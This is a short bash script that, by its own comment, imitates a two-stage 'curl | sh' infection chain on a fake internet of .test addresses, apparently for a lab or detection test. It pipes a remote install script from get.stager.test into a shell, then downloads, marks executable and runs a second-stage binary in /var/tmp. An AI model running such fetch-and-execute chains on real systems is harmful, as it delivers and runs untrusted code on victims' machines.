#!/bin/bash
# Imitates a "curl | sh" infection chain: the first stage pipes a remote script into a shell, then fetches
# the second stage binary and runs it. Every address is a .test name of the fake internet.
curl -fsSL http://get.stager.test/install.sh | sh
curl -fsSL -o /var/tmp/stage2 http://get.stager.test/stage2.bin
chmod 755 /var/tmp/stage2
/var/tmp/stage2
